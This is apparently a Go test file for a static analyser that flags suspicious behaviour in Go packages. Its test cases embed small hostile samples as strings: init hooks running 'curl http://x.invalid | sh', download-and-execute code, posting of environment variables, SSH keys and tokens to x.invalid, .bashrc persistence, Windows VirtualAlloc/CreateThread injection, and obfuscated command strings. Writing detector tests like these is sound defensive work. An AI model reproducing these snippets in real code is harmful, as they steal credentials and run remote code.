package golang_test

import (
	"strings"
	"testing"

	"github.com/gatehouse-project/gatehouse/internal/code/codetest"
	"github.com/gatehouse-project/gatehouse/internal/code/golang"
)

// windows declares a function of Windows by name.
const windows = "package a\nimport \"syscall\"\nvar alloc = syscall.NewLazyDLL(\"kernel32\").NewProc(\"VirtualAlloc\")\n"

var cases = []struct {
	why  string
	src  string
	want []string
}{
	{"init runs on import", "package a\nimport \"os/exec\"\nfunc init() { exec.Command(\"sh\", \"-c\", \"curl http://x.invalid | sh\").Run() }",
		[]string{"exec os/exec.Command [sh|-c|curl http://x.invalid | sh] @init", "embed shell: 'sh' '-c' 'curl http://x.invalid | sh'", "import os/exec"}},
	{"an alias and a sum", "package a\nimport e \"os/exec\"\nfunc F() { e.Command(\"s\"+\"h\"+\"\", \"x\") }", []string{"exec os/exec.Command [sh|x] @F ~call !"}},
	{"a package variable", "package a\nimport \"os/exec\"\nvar _ = exec.Command(\"true\").Run()", []string{"exec os/exec.Command [true]"}},
	{"main calls it", "package main\nimport \"os/exec\"\nfunc main() { f() }\nfunc f() { exec.Command(\"true\") }", []string{"exec os/exec.Command [true] @f ~main"}},
	{"a download is written and run", "package a\nimport (\"net/http\"; \"os\"; \"io\"; \"os/exec\")\nfunc init() {\n r, _ := http.Get(\"http://x.invalid/a\")\n b, _ := io.ReadAll(r.Body)\n os.WriteFile(\"/tmp/a\", b, 0755)\n exec.Command(\"/tmp/a\").Start()\n}",
		[]string{"fetch net/http.Get [http://x.invalid/a] @init", "write-exec os.WriteFile [/tmp/a] <fetch @init", "write-file os.WriteFile [/tmp/a] <fetch @init", "exec os/exec.Command [/tmp/a] <file:fetch @init"}},
	{"copied", "package a\nimport (\"net/http\"; \"os\"; \"io\"; \"os/exec\")\nfunc F() {\n r, _ := http.Get(\"http://x.invalid/a\")\n f, _ := os.Create(\"a\")\n io.Copy(f, r.Body)\n exec.Command(\"a\").Start()\n}",
		[]string{"exec os/exec.Command [a] <file:fetch @F ~call"}},
	{"the environment goes out", "package a\nimport (\"net/http\"; \"os\"; \"strings\")\nfunc init() { http.Post(\"http://x.invalid\", \"t\", strings.NewReader(strings.Join(os.Environ(), \"\"))) }",
		[]string{"send net/http.Post [http://x.invalid|t] <computed,env-all @init", "env-all os.Environ @init"}},
	{"the environment that a program is given is not what it says", "package a\nimport (\"net/http\"; \"os\"; \"os/exec\"; \"bytes\")\nfunc F() {\n c := exec.Command(\"go\", \"version\")\n c.Env = append(os.Environ(), \"CGO_ENABLED=0\")\n b, _ := c.Output()\n http.Post(\"http://x.invalid\", \"t\", bytes.NewReader(b))\n}",
		[]string{"send net/http.Post [http://x.invalid|t] @F ~call"}},
	{"bytes put together and decoded", "package a\nimport \"os/exec\"\nfunc F() { exec.Command(string([]byte{116, 114, 117, 101})) }", []string{"exec os/exec.Command [true] @F ~call !"}},
	{"a secret", "package a\nimport (\"os\"; \"path/filepath\")\nfunc F(h string) { os.ReadFile(filepath.Join(h, \".ssh\", \"id_rsa\")) }", []string{"secret os.ReadFile [/.ssh/id_rsa] @F ~call"}},
	{"directives", "package a\nimport \"C\"\nimport _ \"unsafe\"\n//go:linkname x runtime.x\nfunc x()\n//go:generate sh x.sh\n", []string{"native cgo", "native go:linkname [x|runtime.x]", "exec go:generate [sh x.sh] ~call"}},
	{"comments and texts", "package a\n// exec.Command(\"x\")\nvar s = \"exec.Command(1)\"", []string{"no exec"}},
	{"a part that does not parse", "package a\nimport \"os/exec\"\nfunc init() { exec.Command(\"true\") }\nfunc g( {", []string{"exec os/exec.Command [true] @init"}},
	{"a function kept in a variable", "package a\nimport \"os/exec\"\nfunc init() { r := exec.Command; r(\"true\") }", []string{"exec os/exec.Command [true] @init"}},
	{"a variable that is a function runs when it is called", "package a\nimport \"os/exec\"\nvar f = func() { exec.Command(\"true\") }", []string{"exec os/exec.Command [true] @f ~call"}},
	{"such a variable is called", "package a\nimport \"os/exec\"\nvar f = func() { exec.Command(\"true\") }\nfunc init() { g := f; g() }", []string{"exec os/exec.Command [true] @f"}},
	{"a literal that is called at once", "package a\nimport \"os/exec\"\nvar _ = func() error { return exec.Command(\"true\").Run() }()", []string{"exec os/exec.Command [true]"}},
	{"a binding of Windows", windows + "func VirtualAlloc(n uintptr) { syscall.Syscall6(alloc.Addr(), 4, 0, n, 0, 0, 0, 0) }", []string{"native VirtualAlloc [|4|0||0|0|0|0] @VirtualAlloc ~call", "no inject"}},
	{"a binding that init calls", windows + "func init() { VirtualAlloc(1) }\nfunc VirtualAlloc(n uintptr) { alloc.Call(0, n) }", []string{"inject VirtualAlloc [1] @init", "inject VirtualAlloc [0] @VirtualAlloc"}},
	{"looked up for another file", windows, []string{"inject VirtualAlloc"}},
	{"looked up and called", "package a\nimport \"syscall\"\nfunc init() { syscall.MustLoadDLL(\"kernel32\").MustFindProc(\"CreateThread\").Call(0, 0) }", []string{"inject CreateThread [0|0] @init"}},
	{"a program gets a free port", "package a\nimport (\"net\"; \"os/exec\")\nfunc F() {\n l, _ := net.Listen(\"tcp\", \"localhost:0\")\n exec.Command(\"true\", \"--port\", l.Addr().String())\n}",
		[]string{"exec os/exec.Command [true|--port] @F ~call"}},
	{"what a connection says is run", "package a\nimport (\"net\"; \"os/exec\")\nfunc F() {\n c, _ := net.Dial(\"tcp\", \"x.invalid:1\")\n b := make([]byte, 9)\n c.Read(b)\n exec.Command(c.RemoteAddr().String())\n}",
		[]string{"exec os/exec.Command <socket @F ~call"}},
	{"called by what another file declares", "package a\nfunc init() { run.Call(1) }\nfunc F() { run.Call(1) }", []string{"native elsewhere.Call @init"}},
	{"a line directive does not move a fact", "package a\nimport \"os/exec\"\n//line b.go:1\nfunc init() { exec.Command(\"true\") }", []string{"exec os/exec.Command [true] @init"}},
	{"replaced letters", "package a\nimport (\"os/exec\"; \"strings\")\nfunc init() { exec.Command(strings.ReplaceAll(\"t-r-u-e\", \"-\", \"\")).Run() }",
		[]string{"exec os/exec.Command [true] @init !"}},
	{"a function of the file", "package a\nimport (\"os/exec\"; \"encoding/hex\")\nfunc open(s string) string { b, _ := hex.DecodeString(s); return string(b) }\nfunc init() { exec.Command(open(\"74727565\")).Run() }",
		[]string{"exec os/exec.Command [true] <decode @init !"}},
	{"a loop over numbers", "package a\nimport (\"os/exec\")\nfunc open(b []byte) string { for i := range b { b[i] ^= 7 }; return string(b) }\nfunc init() { exec.Command(open([]byte{115, 117, 114, 98})).Run() }",
		[]string{"exec os/exec.Command [true] @init !"}},
	{"a replacer", "package a\nimport (\"os/exec\"; \"strings\")\nfunc init() { exec.Command(strings.NewReplacer(\"1\", \"t\", \"2\", \"r\").Replace(\"12ue\")).Run() }",
		[]string{"exec os/exec.Command [true] @init !"}},
	{"a format", "package a\nimport (\"os/exec\"; \"fmt\")\nfunc init() { exec.Command(fmt.Sprintf(\"%s%s\", \"tr\", \"ue\")).Run() }",
		[]string{"exec os/exec.Command [true] @init"}},
	{"a table of functions", "package a\nimport (\"os/exec\")\nvar all = []func(){run}\nfunc run() { exec.Command(\"true\").Run() }\nfunc init() { for _, f := range all { f() } }",
		[]string{"exec os/exec.Command [true] @run"}},
	{"once", "package a\nimport (\"os/exec\"; \"sync\")\nvar o sync.Once\nfunc run() { exec.Command(\"true\").Run() }\nfunc init() { o.Do(run) }",
		[]string{"exec os/exec.Command [true] @run"}},
	{"files of a structure", "package a\nimport (\"os\"; \"bytes\"; \"net/http\"; \"path/filepath\")\ntype s struct{ names []string }\nfunc (x s) send() { h, _ := os.UserHomeDir(); var b bytes.Buffer; for _, n := range x.names { t, _ := os.ReadFile(filepath.Join(h, n)); b.Write(t) }; http.Post(\"http://x.invalid\", \"a\", &b) }\nfunc init() { go s{[]string{\".ssh/id_rsa\"}}.send() }",
		[]string{"send net/http.Post [http://x.invalid|a] <read-file,secret @s.send"}},
	{"a header", "package a\nimport (\"os\"; \"net/http\")\nfunc init() { r, _ := http.NewRequest(\"GET\", \"http://x.invalid\", nil); r.Header.Set(\"X-A\", os.Getenv(\"TOKEN\")); http.DefaultClient.Do(r) }",
		[]string{"send net/http.Header.Set <env @init"}},
	{"a shell's input", "package a\nimport (\"os/exec\"; \"net/http\")\nfunc init() { r, _ := http.Get(\"http://x.invalid\"); c := exec.Command(\"sh\"); c.Stdin = r.Body; c.Run() }",
		[]string{"exec os/exec.Cmd.Stdin <fetch @init"}},
	{"added to a profile", "package a\nimport (\"os\")\nfunc init() { f, _ := os.OpenFile(os.ExpandEnv(\"$HOME/.bashrc\"), os.O_APPEND|os.O_WRONLY, 0o600); f.WriteString(\"true\") }",
		[]string{"persist os.OpenFile [~/.bashrc] @init"}},
}

func TestAnalyze(t *testing.T) {
	t.Parallel()
	for _, c := range cases {
		got := codetest.Show(golang.Analyze([]byte(c.src)))
		for _, w := range codetest.Lacks(got, c.want) {
			t.Errorf("%s: %s\nlacks %s\ngot\n%s", c.why, c.src, w, strings.Join(got, "\n"))
		}
	}
}

// TestLongSources: what a long file does is found wherever it stands, at its line.
func TestLongSources(t *testing.T) {
	t.Parallel()
	table := "var t = []int{\n" + strings.Repeat("1, 2, 3, 4,\n", 1<<19) + "}\n"
	plain := strings.Repeat("func p() { q(`(((((`) }\n", 1<<18)
	for _, c := range []struct{ why, src, want string }{
		{"behind a table", "package a\nimport \"os/exec\"\n" + table + "var _ = exec.Command(\"true\")\n", "exec os/exec.Command [true]"},
		{"a function that a variable before calls", "package a\nimport \"os/exec\"\nvar _ = f()\n" + table + plain + "func f() int { exec.Command(c); return 0 }\nconst c = \"true\"\n", "exec os/exec.Command [true] @f"},
		{"a literal on a line of its own", "package a\nimport \"os/exec\"\n" + plain + "var _ =\nfunc() int { exec.Command(\"true\"); return 0 }()\n", "exec os/exec.Command [true]"},
		{"behind a semicolon", "package a\nimport \"os/exec\"\n" + plain + "var x = 1; func init() { exec.Command(\"true\") }", "exec os/exec.Command [true] @init"},
	} {
		f := golang.Analyze([]byte(c.src))
		got := codetest.Show(f)
		if f.Cut || f.Unread != "" || len(codetest.Lacks(got, []string{c.want})) > 0 {
			t.Errorf("%s: cut %v, %s, got\n%s", c.why, f.Cut, f.Unread, strings.Join(got, "\n"))
		}
		for _, x := range f.Facts {
			if line := 1 + strings.Count(c.src[:strings.Index(c.src, "exec.Command(")], "\n"); string(x.Kind) == "exec" && x.Line != line {
				t.Errorf("%s: line %d, not %d", c.why, x.Line, line)
			}
		}
	}
	long := "package a\nvar t = []string{\n" + strings.Repeat("\"0123456789abcdef\",\n", 1<<18) + "}\n"
	if !golang.Analyze([]byte(long)).Cut {
		t.Error("a declaration that is longer than is read counts as read")
	}
}

func TestNesting(t *testing.T) {
	t.Parallel()
	in := func(unit, end string, n int) string {
		return "package a\nvar x = " + strings.Repeat(unit, n) + "1" + strings.Repeat(end, n) + "\n"
	}
	for _, c := range []struct {
		why, src string
		cut      bool
	}{
		{"brackets in a text", "package a\nvar x = \"" + strings.Repeat("(", 5000) + "\" + `{{{{`\n", false},
		{"brackets in a comment", "package a\n//" + strings.Repeat("(", 5000) + "\nvar x = 1\n", false},
		{"a long list of names", "package a\nvar x = []int{" + strings.Repeat("b.c, ", 20000) + "}\n", false},
		{"a deep literal", in("[]any{", "}", 200), false},
		{"brackets", in("(", ")", 5000), true},
		{"operators", in("-(-", ")", 350) + in(strings.Repeat("-", 20000), "", 1), true},
	} {
		if f := golang.Analyze([]byte(c.src)); f.Cut != c.cut {
			t.Errorf("%s: cut %v (%s)", c.why, f.Cut, f.Unread)
		}
	}
}

func TestHostileSources(t *testing.T) {
	t.Parallel()
	for _, unit := range []string{"(", "{", "[", "!", "*", "a+", "a.", "-", "func(){", "x=x+x;"} {
		golang.Analyze([]byte("package a\nvar x = " + strings.Repeat(unit, 1<<18/len(unit))))
	}
	for _, unit := range []string{"(", "{1,", "`", "func f() {", ";"} {
		golang.Analyze([]byte("package a\n" + strings.Repeat(unit, 5<<20/len(unit))))
		golang.Analyze([]byte(strings.Repeat(unit, 5<<20/len(unit))))
	}
	golang.Analyze([]byte("package a\nconst a = \"x\"\nfunc f() {" + strings.Repeat("b := a+a\na = b+b\n", 10000) + "}"))
}

func FuzzAnalyze(f *testing.F) {
	for _, c := range cases {
		f.Add([]byte(c.src))
	}
	f.Fuzz(func(t *testing.T, src []byte) { golang.Analyze(src) })
}
